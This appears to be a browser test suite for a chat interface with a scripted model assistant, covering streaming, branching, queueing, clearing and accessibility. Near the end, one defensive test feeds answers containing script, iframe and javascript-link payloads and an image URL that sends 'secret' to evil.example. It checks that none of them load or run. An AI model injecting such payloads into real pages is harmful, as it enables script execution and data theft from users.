// A person and an assistant, whose model this test scripts: what is sent, streamed, stopped, asked again and cleared.
import type { Client, JournalEvent } from 'sessiond';
import { describe, expect, test } from 'vitest';
import type { Viewer, Visit } from './harness/browser.ts';
import { answer, box, Chats, completed, said, send, turns } from './harness/chats.ts';
import { deferred, TestServer } from './harness/server.ts';

const chats = Chats.forTests('chat', async function* (message) {
  yield `You said: ${message}`;
});

/** The first event of a type in a session, once it is there. */
async function until(of: Client, session: string, type: string): Promise<JournalEvent> {
  for (;;) {
    const { events } = await of.events.list(session, { after: 0 });
    const found = events.find((event) => event.type === type);
    if (found) {
      return found;
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

test('an assistant session opens at its chat, says what to do, and an answer streams as Markdown', async () => {
  const page = await chats.come();
  await page.getByRole('heading', { name: 'Write the first message' }).waitFor();
  const gate = deferred();
  chats.model.script = async function* () {
    yield 'Some **bold** words, and';
    await gate.promise;
    yield ' a list:\n\n- one\n- two\n\n```js\nlet a = 1;\n```\n';
  };
  await box(page).fill('first line');
  await box(page).press('Shift+Enter');
  await box(page).pressSequentially('second line');
  await box(page).press('Enter');
  // It is there before the answer is complete.
  await answer(page).locator('strong', { hasText: 'bold' }).waitFor();
  expect(await box(page).inputValue()).toBe('');
  expect(chats.model.asked.at(-1)?.messages.at(-1)?.content).toBe('first line\nsecond line');
  gate.resolve();
  await completed(page).waitFor();
  await answer(page).locator('li', { hasText: 'two' }).waitFor();
  await answer(page)
    .getByText(/scripted · 2 tokens/)
    .waitFor();
  await page.getByText('The answer is complete.').waitFor({ state: 'attached' });

  // What is copied is what the model wrote.
  await answer(page).getByRole('button', { name: 'Copy the code' }).click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('let a = 1;');
  await answer(page).getByRole('button', { name: 'Copy the answer' }).click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('Some **bold** words, and a list:');
});

test('a reload in the middle of an answer shows all of it so far, and then the rest', async () => {
  const page = await chats.come();
  const [first, second] = [deferred(), deferred()];
  chats.model.script = async function* () {
    for (let word = 0; word < 50; word += 1) {
      yield `w${word} `;
    }
    await first.promise;
    yield 'middle ';
    await second.promise;
    yield 'end';
  };
  await send(page, 'go');
  await answer(page)
    .getByText(/^w0 .*w49/)
    .waitFor();
  await page.reload();
  await answer(page)
    .getByText(/^w0 .*w49/)
    .waitFor();
  first.resolve();
  await answer(page)
    .getByText(/w49 middle/)
    .waitFor();
  second.resolve();
  await completed(page).waitFor();
  await answer(page)
    .getByText(/^w0 .*w49 middle end$/)
    .waitFor();
});

test('a new chat is one click away, and its first message names it', async () => {
  const viewer = await chats.arrive();
  await viewer.open('/sessions');
  await viewer.page.getByRole('button', { name: 'New chat' }).click();
  await viewer.page.locator('[data-turns]').waitFor();
  await send(viewer.page, 'Which sessions failed\nthis week?');
  await viewer.page.getByRole('heading', { level: 1, name: 'Which sessions failed' }).waitFor();
  await completed(viewer.page).waitFor();
  await viewer.page.getByRole('complementary', { name: 'This session' }).getByText('Last activity').waitFor();
});

test('a person who scrolls up while an answer is written stays there, and comes back with one click', async () => {
  const page = await chats.come();
  const gates = [deferred(), deferred()] as const;
  chats.model.script = async function* () {
    yield 'A line of it.\n\n'.repeat(60);
    await gates[0].promise;
    yield 'More of it.\n\n'.repeat(30);
    await gates[1].promise;
    yield 'The end of it.\n\n'.repeat(30);
  };
  await send(page, 'go');
  const feed = page.getByRole('feed');
  await answer(page).getByText('A line of it.').nth(59).waitFor();
  await page.locator('[data-at-end="true"]').waitFor();
  await feed.evaluate((element) => element.scrollTo({ top: 100 }));
  await page.locator('[data-at-end="false"]').waitFor();
  const before = await feed.evaluate((element) => element.scrollTop);
  gates[0].resolve();
  await answer(page).getByText('More of it.').nth(29).waitFor();
  expect(await feed.evaluate((element) => element.scrollTop)).toBe(before);
  await page.getByRole('button', { name: 'Newest' }).click();
  await page.locator('[data-at-end="true"]').waitFor();
  gates[1].resolve();
  await completed(page).waitFor();
  await expect
    .poll(() => feed.evaluate(({ scrollTop, scrollHeight, clientHeight }) => scrollHeight - clientHeight - scrollTop))
    .toBeLessThan(40);
});

test('a message that the server does not accept comes back, and says why', async () => {
  const viewer = await chats.arrive({ provokes: /status of 422/ });
  const { page } = viewer;
  await viewer.openSession(chats.id);
  const long = 'x'.repeat(1024 * 1024 + 1);
  await box(page).fill(long);
  await box(page).press('Enter');
  await page.getByText(/1048576 bytes at most/).waitFor();
  await expect.poll(async () => (await box(page).inputValue()).length).toBe(long.length);
  await page.getByRole('button', { name: 'Dismiss' }).click();
  await send(page, 'short');
  await completed(page).waitFor();
});

test('a text that was typed and not sent survives a reload', async () => {
  const page = await chats.come();
  await box(page).fill('half a thought');
  await page.reload();
  await expect.poll(() => box(page).inputValue()).toBe('half a thought');
  await box(page).press('Enter');
  await completed(page).waitFor();
  await page.reload();
  await completed(page).waitFor();
  expect(await box(page).inputValue()).toBe('');
});

test('another tab shows the same, and stops the answer; the model’s request is closed', async () => {
  const [one, other] = [await chats.come(), await chats.come()];
  const gate = deferred();
  chats.model.script = async function* () {
    yield 'The first words';
    await gate.promise;
  };
  await send(one, 'go on and on');
  await answer(one).getByText('The first words').waitFor();
  await answer(other).getByText('The first words').waitFor();
  expect(chats.model.open).toBe(1);
  await other.getByRole('button', { name: 'Stop' }).click();
  for (const page of [one, other]) {
    await page.locator('article[data-status="stopped"]').waitFor();
    await answer(page).getByText('The first words').waitFor();
    await answer(page).getByText('Somebody stopped it').waitFor();
  }
  await expect.poll(() => chats.model.open).toBe(0);
  gate.resolve();

  // Stopped, it can be answered again.
  chats.model.script = async function* () {
    yield 'All of it';
  };
  await one.getByRole('button', { name: 'Retry' }).first().click();
  await answer(other).getByText('All of it').waitFor();
  expect(await turns(other).count()).toBe(1);
});

test('messages that wait are shown in their place, are taken back, and are answered in their order', async () => {
  const [page, other] = [await chats.come(), await chats.come()];
  const gate = deferred();
  chats.model.script = async function* (message) {
    if (message === 'first') {
      yield 'wait';
      await gate.promise;
    }
    yield `: ${message}`;
  };
  await send(page, 'first');
  await answer(page).getByText('wait').waitFor();
  // Nobody waits for the server before the next message is written.
  for (const text of ['second', 'third', 'fourth']) {
    await send(page, text);
  }
  await expect.poll(() => page.locator('[data-queued]').count()).toBe(3);
  await expect.poll(() => other.locator('[data-queued]').count()).toBe(3);
  expect(await other.locator('[data-queued]').allInnerTexts()).toEqual([
    expect.stringContaining('second'),
    expect.stringContaining('third'),
    expect.stringContaining('fourth'),
  ]);
  await page.locator('[data-queued]', { hasText: 'third' }).getByRole('button', { name: 'Take back' }).click();
  await expect.poll(() => page.locator('[data-queued]').count()).toBe(2);
  await expect.poll(() => box(page).inputValue()).toBe('third');
  gate.resolve();
  await expect.poll(() => completed(page).count()).toBe(3);
  await expect.poll(() => completed(other).count()).toBe(3);
  await answer(other).getByText(': fourth').waitFor();
  expect(await other.locator('[data-queued]').count()).toBe(0);
});

test('a failed turn says why in the service’s words, and is retried in its place', async () => {
  const page = await chats.come();
  // biome-ignore lint/correctness/useYield: it answers nothing.
  chats.model.script = async function* () {
    throw 400;
  };
  await send(page, 'try');
  await page.locator('article[data-status="failed"]').waitFor();
  await answer(page).getByText('the model is ill').waitFor();
  chats.model.script = async function* () {
    yield 'well again';
  };
  await answer(page).getByRole('button', { name: 'Retry' }).first().click();
  await answer(page).getByText('well again').waitFor();
  const picker = turns(page).last().locator('[data-branch="2"][data-branches="2"]');
  await picker.waitFor();
  await picker.getByRole('button', { name: 'Earlier branch' }).click();
  await page.locator('article[data-status="failed"]').waitFor();
});

test('an edited question is a branch, which is chosen for every tab and survives a reload', async () => {
  await chats.said('one');
  await chats.said('two');
  const [page, other] = [await chats.come(), await chats.come()];
  await answer(page).getByText('You said: two').waitFor();
  const first = turns(page).first();
  await first.hover();
  await first.getByRole('button', { name: 'Edit the question' }).click();
  const edit = page.getByRole('textbox', { name: 'Another question' });
  expect(await edit.inputValue()).toBe('one');
  await edit.fill('uno');
  await edit.press('Enter');
  await answer(page).getByText('You said: uno').waitFor();
  // What followed the earlier question is not on this branch.
  expect(await turns(page).count()).toBe(1);
  await answer(other).getByText('You said: uno').waitFor();

  await page.getByRole('button', { name: 'Earlier branch' }).click();
  for (const each of [page, other]) {
    await answer(each).getByText('You said: two').waitFor();
    await each.locator('[data-branch="1"][data-branches="2"]').waitFor();
  }
  // The buttons are where they were: one who goes through branches by keyboard stays there.
  expect(await page.evaluate(() => document.activeElement?.closest('[data-branch]') !== null)).toBe(true);
  await page.reload();
  await answer(page).getByText('You said: two').waitFor();
  await send(page, 'three');
  await answer(page).getByText('You said: three').waitFor();
  expect(
    chats.model.asked
      .at(-1)
      ?.messages.filter(({ role }) => role === 'user')
      .map(({ content }) => content),
  ).toEqual(['one', 'two', 'three']);
});

test('a person who reads an earlier branch is told that an answer is written in another', async () => {
  await chats.said('one');
  const page = await chats.come();
  const gate = deferred();
  chats.model.script = async function* () {
    yield 'slowly';
    await gate.promise;
  };
  await answer(page).getByRole('button', { name: 'Retry' }).click();
  await answer(page).getByText('slowly').waitFor();
  await page.getByRole('button', { name: 'Earlier branch' }).click();
  await page.getByText('An answer is being written in another branch.').waitFor();
  await answer(page).getByText('You said: one').waitFor();
  await page.getByRole('button', { name: 'Show it' }).click();
  await answer(page).getByText('slowly').waitFor();
  gate.resolve();
  await completed(page).waitFor();
});

test('a question that is edited while it is answered is answered anew at once', async () => {
  const page = await chats.come();
  const gate = deferred();
  chats.model.script = async function* (message) {
    yield `So: ${message}`;
    if (message === 'slow') {
      await gate.promise;
    }
  };
  await send(page, 'slow');
  await answer(page).getByText('So: slow').waitFor();
  // The arrow up where nothing is written edits the last question.
  await box(page).press('ArrowUp');
  const edit = page.getByRole('textbox', { name: 'Another question' });
  await edit.fill('quick');
  await edit.press('Enter');
  await answer(page).getByText('So: quick').waitFor();
  await completed(page).waitFor();
  await expect.poll(() => chats.model.open).toBe(0);
  await page.getByRole('button', { name: 'Earlier branch' }).click();
  await page.locator('article[data-status="interrupted"]').getByText('So: slow').waitFor();
  await answer(page).getByText('Another message took its place').waitFor();
  gate.resolve();
});

test('a conversation of a session that has ended is read, and not changed', async () => {
  await chats.said('one');
  await chats.client.conversation.retryTurn(chats.id, (await chats.client.conversation.listTurns(chats.id)).head ?? '');
  await expect
    .poll(async () => (await chats.client.conversation.listTurns(chats.id)).turns[1]?.status)
    .toBe('completed');
  await chats.client.sessions.complete(chats.id, { summary: 'done' });
  const page = await chats.come();
  await completed(page).waitFor();
  await page.getByText('The session is completed, and accepts no more messages.').waitFor();
  expect(await box(page).count()).toBe(0);
  await answer(page).getByRole('button', { name: 'Copy the answer' }).waitFor();
  expect(await answer(page).getByRole('button', { name: 'Retry' }).count()).toBe(0);
});

test('clearing asks first, and empties every tab', async () => {
  await chats.said('one');
  await chats.said('two');
  const [page, other] = [await chats.come(), await chats.come()];
  await turns(other).nth(1).waitFor();
  await page.getByRole('button', { name: 'Conversation', exact: true }).click();
  await page.getByRole('menuitem', { name: 'Clear' }).click();
  const dialog = page.getByRole('dialog', { name: 'Clear the conversation' });
  await dialog.getByText('Removes 2 turns').waitFor();
  expect(await turns(page).count()).toBe(2);
  await dialog.getByRole('button', { name: 'Clear' }).click();
  for (const each of [page, other]) {
    await each.getByRole('heading', { name: 'Write the first message' }).waitFor();
  }
  await send(other, 'anew');
  await answer(page).getByText('You said: anew').waitFor();
  expect(chats.model.asked.at(-1)?.messages.filter(({ role }) => role === 'user')).toHaveLength(1);
});

test('the assistant is set, for the next message on', async () => {
  const page = await chats.come();
  await page.getByRole('button', { name: 'Set how the assistant behaves' }).click();
  const dialog = page.getByRole('dialog', { name: 'Assistant' });
  await dialog.getByLabel('Prompt').fill('You are terse.');
  await dialog.getByLabel('Temperature').fill('0.3');
  await dialog.getByLabel('Maximum tokens').fill('64');
  await dialog.getByRole('button', { name: 'Save' }).click();
  await dialog.waitFor({ state: 'detached' });
  await page.getByText('You are terse.').waitFor();
  await send(page, 'hello');
  await completed(page).waitFor();
  expect(chats.model.asked.at(-1)).toMatchObject({ temperature: 0.3, messages: [{ content: 'You are terse.' }, {}] });
});

test('a text is found in turns that are far away, and the conversation is exported', async () => {
  chats.model.script = async function* (message) {
    yield `${'A line.\n\n'.repeat(40)}${['b', 'f'].includes(message) ? 'A Needle' : 'Straw'} of ${message}`;
  };
  for (const text of 'abcdefgh') {
    await chats.said(text);
  }
  const page = await chats.come();
  await turns(page).last().waitFor();
  await page.getByRole('button', { name: 'Find in the conversation' }).click();
  const find = page.getByRole('searchbox', { name: 'Find in the conversation' });
  await find.fill('needle');
  await page.getByText('2 of 2').waitFor();
  // It is in sight, far below the beginning of its turn.
  const sees = (text: string) =>
    expect
      .poll(async () => {
        const [at, frame] = [
          await page
            .getByText(text)
            .boundingBox({ timeout: 1_000 })
            .catch(() => null),
          await page.getByRole('feed').boundingBox(),
        ];
        return at && frame ? at.y >= frame.y && at.y < frame.y + frame.height : false;
      })
      .toBe(true);
  await sees('A Needle of f');
  await find.press('Enter');
  await page.getByText('1 of 2').waitFor();
  await sees('A Needle of b');
  await find.press('Escape');

  await page.getByRole('button', { name: 'Conversation', exact: true }).click();
  const [saved] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('menuitem', { name: 'Export as Markdown' }).click(),
  ]);
  expect(saved.suggestedFilename()).toBe(`${chats.id}.md`);
});

test('earlier messages that were summarised stay, above a divider that shows the summary', async () => {
  const small = await TestServer.start([], { ...chats.model.environment, SESSIOND_MODEL_WINDOW: '600' });
  const client = small.client();
  const { session_id } = await client.sessions.create({ kind: 'assistant', name: 'Long' });
  chats.model.script = async function* (message) {
    yield message.startsWith('Summarise our conversation') ? '- They count **words**.' : `${'Some words. '.repeat(40)}`;
  };
  const viewer = await chats.arrive({}, small.url);
  const { page } = viewer;
  await said(client, session_id, 'one');
  await viewer.openSession(session_id);
  await completed(page).waitFor();
  expect(await page.locator('[data-summary]').count()).toBe(0);
  for (const text of ['two', 'three']) {
    await said(client, session_id, text);
  }
  await until(client, session_id, 'conversation_compacted');
  // The page that was open has it, and so has one that is opened later.
  for (const again of [false, true]) {
    if (again) {
      await page.reload();
    }
    const divider = turns(page).locator('[data-summary]');
    await divider.getByText('Earlier messages were summarised').waitFor();
    const last = await turns(page)
      .filter({ has: page.locator('[data-summary]') })
      .getAttribute('aria-posinset');
    expect(await divider.getAttribute('data-summary')).toBe(last);
    expect(await turns(page).count()).toBe(3);
    await turns(page).first().getByText('You: one').waitFor();
    await divider.locator('summary').press('Enter');
    await divider.locator('strong', { hasText: 'words' }).waitFor();
    expect(await viewer.violations()).toEqual([]);
  }
  await client.conversation.clear(session_id, {});
  await page.getByRole('heading', { name: 'Write the first message' }).waitFor();
  await viewer.leave();
  await small.stop();
});

test('a server without a model says how to give it one', async () => {
  const bare = await TestServer.start();
  const session = await bare.client().sessions.create({ kind: 'assistant' });
  const viewer = await chats.arrive({}, bare.url);
  await viewer.openSession(session.session_id);
  await send(viewer.page, 'hello');
  await answer(viewer.page)
    .getByText(/no model is named: set SESSIOND_MODEL/)
    .waitFor();
  await viewer.leave();
  await bare.stop();
});

test('a server that is killed in the middle keeps the message and what was written, and the page says what happened', async () => {
  const fragile = await TestServer.start([], chats.model.environment);
  const { session_id } = await fragile.client().sessions.create({ kind: 'assistant', name: 'Fragile' });
  const viewer = await chats.arrive({ provokes: /ERR_|Failed to load/ }, fragile.url);
  const { page } = viewer;
  await viewer.openSession(session_id);
  const gate = deferred();
  chats.model.script = async function* () {
    yield 'The first words';
    await gate.promise;
  };
  await send(page, 'go');
  await answer(page).getByText('The first words').waitFor();
  // They are durable a second later.
  const { seq } = await until(fragile.client(), session_id, 'turn_progressed');
  expect(seq).toBeGreaterThan(0);
  await fragile.kill();
  await fragile.begin();
  await page.locator('article[data-status="interrupted"]').waitFor({ timeout: 60_000 });
  await answer(page).getByText('The first words').waitFor();
  await answer(page).getByText('Its process ended').waitFor();
  gate.resolve();
  chats.model.script = async function* () {
    yield 'All of it';
  };
  await answer(page).getByRole('button', { name: 'Retry' }).click();
  await answer(page).getByText('All of it').waitFor();
  await fragile.stop();
});

test('the token of a session opens its chat and nothing else, until the session expires', async () => {
  const admin = 'admin-key-of-this-test';
  const keyed = await TestServer.start(['--session-timeout', '8s'], {
    ...chats.model.environment,
    SESSIOND_API_KEY: admin,
  });
  const { session_id, token } = await keyed.client(admin).sessions.create({ kind: 'assistant', name: 'Mine' });
  const viewer = await chats.arrive({ key: token ?? '', provokes: /status of 4(03|10)/ }, keyed.url);
  const { page } = viewer;
  await viewer.open('/sessions');
  await page.waitForURL(`**/sessions/${session_id}`);
  await send(page, 'hello');
  await completed(page).waitFor();
  expect(await page.getByRole('navigation', { name: 'Pages' }).getByRole('listitem').count()).toBe(0);
  expect(await page.getByRole('button', { name: 'New chat' }).count()).toBe(0);
  await page.getByRole('heading', { name: 'This session has expired' }).waitFor({ timeout: 40_000 });
  expect(await page.getByText('You said: hello').count()).toBe(0);
  await page.reload();
  await page.getByRole('heading', { name: 'This session has expired' }).waitFor();
  await keyed.stop();
});

describe('what an answer has in it', () => {
  const HOSTILE = [
    '<img src="https://evil.example/a.png"><script>alert(1)</script>',
    '![chart](https://evil.example/b.png?q=secret)',
    '[click](javascript:alert(1)) [web](https://example.org/)',
    '<iframe src="https://evil.example/"></iframe>',
    '![data](data:image/svg+xml;base64,PHN2Zy8+)',
  ].join('\n\n');

  test('calls no other server, and runs nothing', async () => {
    const viewer = await chats.arrive();
    viewer.page.on('dialog', () => viewer.faults.push('a dialog'));
    await viewer.openSession(chats.id);
    chats.model.script = async function* () {
      for (const letter of HOSTILE.split(/(?=[<![])/)) {
        yield letter;
      }
    };
    await send(viewer.page, 'paint');
    await completed(viewer.page).waitFor();
    await answer(viewer.page).getByRole('link', { name: 'chart (evil.example)' }).waitFor();
    expect(await answer(viewer.page).locator('img, iframe, script').count()).toBe(0);
    expect(await answer(viewer.page).getByRole('link').count()).toBe(2);
  });
});

describe('everybody can use it', () => {
  test.each([
    ['wide', {}],
    ['wide and dark', { colorScheme: 'dark' }],
    ['narrow', { viewport: { width: 380, height: 800 } }],
  ] as [string, Visit][])('%s', async (_, visit) => {
    const gate = deferred();
    chats.model.script = async function* (message) {
      yield 'Words with `code`, a [link](https://example.org/) and\n\n```python\nprint("x" * 200)\n```\n\n';
      yield '| a | b |\n|---|---|\n| 1 | 2 |\n';
      if (message === 'wait') {
        await gate.promise;
      }
    };
    await chats.said('first');
    const { turn_id } = await chats.client.conversation.retryTurn(
      chats.id,
      (await chats.client.conversation.listTurns(chats.id)).head ?? '',
    );
    await chats.client.conversation.getTurn(chats.id, turn_id, { wait: '30s' });
    const page = await chats.come(visit);
    const viewer = chats.viewers.at(-1) as Viewer;
    await completed(page).waitFor();
    expect(await viewer.violations()).toEqual([]);
    await send(page, 'wait');
    await answer(page).getByRole('cell', { name: '2' }).waitFor();
    await send(page, 'next');
    await page.locator('[data-queued]').waitFor();
    expect(await viewer.violations()).toEqual([]);
    // Nothing is wider than the screen.
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
    expect(await page.getByRole('feed').evaluate((feed) => feed.scrollWidth <= feed.clientWidth)).toBe(true);
    gate.resolve();
    await expect.poll(() => completed(page).count()).toBeGreaterThan(1);
  });
});
